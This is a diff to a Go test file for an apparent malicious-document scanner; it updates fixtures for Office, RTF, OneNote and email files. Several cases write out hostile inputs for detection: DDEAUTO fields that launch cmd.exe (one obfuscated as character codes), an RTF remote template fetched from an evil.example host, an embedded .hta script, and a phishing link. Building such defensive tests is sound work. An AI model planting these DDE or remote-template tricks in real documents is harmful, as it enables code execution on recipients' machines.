@@ -7,6 +7,7 @@ import (
 	"encoding/base64"
 	"encoding/binary"
 	"fmt"
+	"image"
 	"slices"
 	"strings"
 	"testing"
@@ -162,7 +163,7 @@ var officeCases = []struct {
 	{"link pasted from a page", "a.docx", linked("hyperlink", "javascript:void(0)"), "", "", "", ""},
 	{"picture pasted from a help file", "a.docx", linked("image", `mk:@MSITStore:C:\help\a.chm::/1.gif`), "", "", "", ""},
 	{"remote picture", "a.docx", linked("image", "https://pixel.letters.example/1.png"), "remote-picture", "", "https://pixel.letters.example/1.png", ""},
-	{"ordinary letter", "a.docx", scantest.DOCX(`<w:p><w:hyperlink r:id="rId1"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>`, scantest.Rels("word/document.xml", scantest.Relation{Kind: "hyperlink", Target: "https://northwind.example/a?b=1&c=2", External: true}), scantest.Entry{Name: "word/media/image1.png", Data: "\x89PNG\r\n\x1a\n123"}), "", "image1.png", "https://northwind.example/a?b=1&c=2 our site", "our site"},
+	{"ordinary letter", "a.docx", scantest.DOCX(`<w:p><w:hyperlink r:id="rId1"><w:r><w:t>our site</w:t></w:r></w:hyperlink></w:p>`, scantest.Rels("word/document.xml", scantest.Relation{Kind: "hyperlink", Target: "https://northwind.example/a?b=1&c=2", External: true}), scantest.Entry{Name: "word/media/image1.png", Data: string(scantest.PNG(image.NewGray(image.Rect(0, 0, 4, 4))))}), "", "image1.png", "https://northwind.example/a?b=1&c=2 our site", "our site"},
 	{"field in runs", "a.docx", scantest.DOCX(scantest.Field(" DD", "EAU", `TO c:\\windows\\system32\\cmd.exe "/k `, `calc.exe" `)), "dde-program", "", "", ""},
 	{"field in numbers", "a.docx", scantest.DOCX(scantest.Field("DDEAUTO QUOTE 99 109 100 46 101 120 101 ")), "dde-program", "", "", ""},
 	{"field of a chart", "a.docx", scantest.DOCX(scantest.Field(`DDEAUTO Excel.Sheet.8 "C:\\data\\figures.xls" "Sheet1!R1C1"`)), "linked-file", "", "", ""},
@@ -200,7 +201,7 @@ var officeCases = []struct {
 	{"rtf template", "a.rtf", []byte(`{\rtf1{\*\template \u104?ttp\'3a//t.evil.example/x.dotm}Hi}`), "remote-template", "", "http://t.evil.example/x.dotm", ""},
 
 	{"note with a script", "a.one", scantest.OneNote(scantest.Entry{Name: "open.hta", Data: "<script>x</script>"}), "embedded-program", "open.hta", "", ""},
-	{"note with a letter", "a.one", scantest.OneNote(scantest.Entry{Name: "agenda.pdf", Data: "%PDF-1.4 x"}), "", "agenda.pdf", "", ""},
+	{"note with a letter", "a.one", scantest.OneNote(scantest.Entry{Name: "agenda.txt", Data: "On Friday at ten."}), "", "agenda.txt", "", ""},
 
 	{"saved message", "a.msg", scantest.MSG(scantest.Saved{Subject: "Invoice", HTML: `<p>Pay <a href="https://pay.evil.example/x">here</a></p>`, Files: []scantest.Entry{{Name: "run.vbs", Data: "x=1"}}, Messages: []scantest.Saved{{Subject: "Inner", Body: "see https://inner.example/a"}}}), "embedded-program", "run.vbs", "https://pay.evil.example/x here,https://inner.example/a", "Invoice"},
 
